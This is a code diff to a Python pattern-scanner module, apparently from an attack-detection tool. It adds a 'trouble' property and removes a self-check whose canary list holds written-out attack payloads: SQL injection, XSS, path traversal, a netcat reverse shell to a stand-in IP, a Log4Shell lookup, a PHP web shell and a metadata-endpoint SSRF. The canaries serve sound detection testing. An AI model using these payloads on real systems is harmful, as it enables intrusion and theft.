@@ -19,7 +19,14 @@ class Scanner(Protocol):
 
 
 class Scanners(Protocol):
-    """Where scanners of the multi-pattern engine come from; compiling takes seconds."""
+    """Where scanners of the multi-pattern engine come from; compiling takes seconds.
+
+    ``trouble`` says why there is none, empty where there is or may be one yet.
+    """
+
+    @property
+    def trouble(self) -> str:
+        """Why there is none."""
 
     def want(self, patterns: Sequence[bytes], ready: Callable[[Scanner], None]) -> None:
         """Call ``ready`` with a scanner for the patterns, now or from another thread, or never."""
@@ -36,28 +43,3 @@ class OneByOne:
 
     def scan(self, text: bytes) -> list[Hit]:
         return [(number, end) for number, ends in enumerate(self._searches) if (end := ends(text)) >= 0]
-
-
-def agrees(scanner: Scanner, patterns: Sequence[bytes]) -> bool:
-    """True if the scanner finds in the canaries whatever the stand-in finds there, and they are found at all."""
-    found = {number for number, _ in scanner.scan(CANARIES)}
-    expected = {number for number, _ in OneByOne(patterns).scan(CANARIES)}
-    return expected <= found and not scanner.scan(b"")
-
-
-CANARIES = b"\n".join(
-    [
-        b"/index.html",
-        b"1' or '1'='1' -- -",
-        b"1 union all select null,version() from information_schema.tables",
-        b"<script>alert(document.cookie)</script>",
-        b'"><img src=x onerror=alert(1)>',
-        b"../../../../etc/passwd",
-        b";cat /etc/passwd|nc -e /bin/sh 192.0.2.1 4444",
-        b"${jndi:ldap://192.0.2.1/a}",
-        b"<?php system($_GET['c']); ?>",
-        b"{{7*7}}${7*7}",
-        b"http://169.254.169.254/latest/meta-data/",
-    ]
-)
-"""Attacks that a database of the built-in rules finds; an empty or broken one would look healthy otherwise."""
